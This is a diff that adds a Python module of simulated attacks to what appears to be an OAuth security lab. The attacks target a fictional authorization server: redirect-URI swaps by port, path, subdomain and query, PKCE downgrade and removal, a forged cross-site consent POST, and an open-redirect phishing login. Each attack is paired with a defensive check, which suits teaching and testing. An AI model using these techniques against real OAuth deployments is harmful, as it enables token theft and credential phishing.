@@ -1,0 +1,188 @@
+"""Attacks on the authorization endpoint and the pages in front of it (RFC 6749 §4.1.1, §10.13, §10.15; RFC 7636)."""
+
+from urllib.parse import urlsplit
+
+from inspector.lab.actors import AuthorizationRequest, CannotPlay
+from inspector.lab.answer import Answer
+from inspector.lab.attack import Attack, Outcome
+from inspector.lab.html import Form
+from inspector.lab.stage import EVERY_SCOPE, MALLORYS_SITE, Stage
+
+AIM = "GET /oauth/authorize"
+
+
+def _tempted(stage: Stage, request: AuthorizationRequest, site: str) -> Outcome:
+    """Carol follows a link of mallory's. It gets through if she is asked to consent to it, or sent on with a code."""
+    answer = stage.carol.visit(request.url, until=site)
+    goes_on = answer.page.form_with("decision") is not None or "code" in answer.carried
+    consequence = "" if goes_on else _where_she_is(answer)
+    return answer.outcome(got_through=goes_on, consequence=consequence)
+
+
+def _where_she_is(answer: Answer) -> str:
+    if answer.location:
+        return "The client learns of the error; no code exists."
+    return "Carol’s browser stays at Tripod ID: she is sent nowhere, and no code exists."
+
+
+def _swapped(stage: Stage, redirect_uri: str) -> Outcome:
+    request = stage.print_shop.authorization_request("photos:read", redirect_uri=redirect_uri)
+    return _tempted(stage, request, redirect_uri)
+
+
+def another_port(stage: Stage) -> Outcome:
+    """The same host and path, and a port at which mallory’s program listens."""
+    parts = urlsplit(stage.print_shop.redirect_uri)
+    return _swapped(stage, f"http://{parts.hostname}:6666{parts.path}")
+
+
+def by_prefix(stage: Stage) -> Outcome:
+    """The registered URI, and then some more path."""
+    return _swapped(stage, f"{stage.print_shop.redirect_uri}/../mallory")
+
+
+def by_subdomain(stage: Stage) -> Outcome:
+    """The registered host as the beginning of mallory’s own."""
+    parts = urlsplit(stage.print_shop.redirect_uri)
+    return _swapped(stage, f"http://{parts.netloc.replace(':', '-')}.mallory.example{parts.path}")
+
+
+def extra_parameter(stage: Stage) -> Outcome:
+    """The registered URI with a query that it was not registered with."""
+    return _swapped(stage, f"{stage.print_shop.redirect_uri}?next={MALLORYS_SITE}")
+
+
+def pkce_plain(stage: Stage) -> Outcome:
+    """The challenge is the verifier itself, so whoever sees the request can redeem the code."""
+    request = stage.print_shop.authorization_request(
+        "photos:read", code_challenge="m" * 43, code_challenge_method="plain"
+    )
+    return _tempted(stage, request, stage.print_shop.redirect_uri)
+
+
+def pkce_none(stage: Stage) -> Outcome:
+    """The challenge is cut out of the request on its way."""
+    request = stage.print_shop.authorization_request("photos:read", code_challenge=None, code_challenge_method=None)
+    return _tempted(stage, request, stage.print_shop.redirect_uri)
+
+
+def forged_consent(stage: Stage) -> Outcome:
+    """Another site has carol’s browser send the form that allows mallory’s app everything."""
+    app = stage.mallorys_app
+    request = app.authorization_request(EVERY_SCOPE)
+    asked = stage.carol.visit(request.url)
+    if asked.page.form_with("decision") is None:
+        raise CannotPlay("Carol was not asked for consent.")
+    stage.carol.has_consented = True
+    scopes = [("granted_scope", scope) for scope in EVERY_SCOPE.split()]
+    form = Form(request.url, [("asked_scope", EVERY_SCOPE), *scopes, ("decision", "allow")])
+    # Her browser’s rules for cookies (SameSite) stand before it as well; the lab sends them all the same.
+    headers = {"Origin": MALLORYS_SITE, "Referer": f"{MALLORYS_SITE}/"}
+    answer = stage.carol.browser.wire.send("POST", form.action, data=form.fields, headers=headers)
+    apps = stage.carol.visit(f"{stage.addresses.authorization_server}/account/apps")
+    has_allowed = apps.page.form_with("client_id") is not None
+    consequence = "" if has_allowed else "Carol’s account lists no app that she has let in."
+    return answer.outcome(got_through="code" in answer.carried, consequence=consequence)
+
+
+def open_redirect(stage: Stage) -> Outcome:
+    """A link to the real login page that leads on to mallory’s, where carol is asked for her password once more."""
+    browser = stage.browser()
+    elsewhere = f"//{urlsplit(MALLORYS_SITE).netloc}/login"
+    login = browser.open(f"{stage.addresses.authorization_server}/login?next={elsewhere}")
+    form = login.page.form_with("password")
+    if form is None:
+        raise CannotPlay("There was no login page.")
+    fields = [(name, value) for name, value in form.fields if name not in ("username", "password")]
+    credentials = [("username", stage.carol.username), ("password", stage.carol.password)]
+    answer = browser.submit(login, Form(form.action, fields), *credentials, until=stage.addresses.authorization_server)
+    origin = "{0.scheme}://{0.netloc}".format(urlsplit(answer.location))
+    is_elsewhere = bool(answer.location) and origin != stage.addresses.authorization_server
+    return answer.outcome(
+        got_through=is_elsewhere,
+        consequence="" if is_elsewhere else "Carol is signed in, and still at Tripod ID.",
+    )
+
+
+ATTACKS = (
+    Attack(
+        slug="redirect-uri-port",
+        title="Swap the redirect URI: another port",
+        aim=AIM,
+        leg="auth",
+        does="Mallory has a program on carol’s machine. Her link leads to the real Tripod ID, and brings the code to its port.",
+        run=another_port,
+        check="exact-redirect-uri",
+        comparable=True,
+    ),
+    Attack(
+        slug="redirect-uri-prefix",
+        title="Swap the redirect URI: by prefix",
+        aim=AIM,
+        leg="auth",
+        does="Mallory appends a path to the registered URI, for a server that only compares how it begins.",
+        run=by_prefix,
+        check="exact-redirect-uri",
+        comparable=True,
+    ),
+    Attack(
+        slug="redirect-uri-subdomain",
+        title="Swap the redirect URI: by subdomain",
+        aim=AIM,
+        leg="auth",
+        does="Mallory’s domain begins with the registered host, for a server that looks for it anywhere in the name.",
+        run=by_subdomain,
+        check="exact-redirect-uri",
+        comparable=True,
+    ),
+    Attack(
+        slug="redirect-uri-parameter",
+        title="Swap the redirect URI: by an extra parameter",
+        aim=AIM,
+        leg="auth",
+        does="Mallory adds a query to the registered URI, for a client that redirects on to whatever stands in it.",
+        run=extra_parameter,
+        check="exact-redirect-uri",
+        comparable=True,
+    ),
+    Attack(
+        slug="pkce-plain",
+        title="Downgrade PKCE to plain",
+        aim=AIM,
+        leg="auth",
+        does="Mallory rewrites the request on its way: the challenge is now a verifier that she knows.",
+        run=pkce_plain,
+        check="s256-required",
+        comparable=True,
+    ),
+    Attack(
+        slug="pkce-none",
+        title="Leave PKCE out",
+        aim=AIM,
+        leg="auth",
+        does="Mallory cuts the challenge out of the request, so that the code needs no verifier.",
+        run=pkce_none,
+        check="s256-required",
+        comparable=True,
+    ),
+    Attack(
+        slug="forged-consent",
+        title="Forge the consent from another site",
+        aim="POST /oauth/authorize",
+        leg="auth",
+        does="Carol is signed in. Mallory’s site has her browser send the form that allows mallory’s app everything.",
+        run=forged_consent,
+        check="form-token",
+        comparable=True,
+    ),
+    Attack(
+        slug="open-redirect",
+        title="Lead the sign-in astray",
+        aim="POST /login",
+        leg="auth",
+        does="Mallory’s link leads to the real login page, and from there to a copy that asks for the password once more.",
+        run=open_redirect,
+        check="own-pages-only",
+        comparable=True,
+    ),
+)
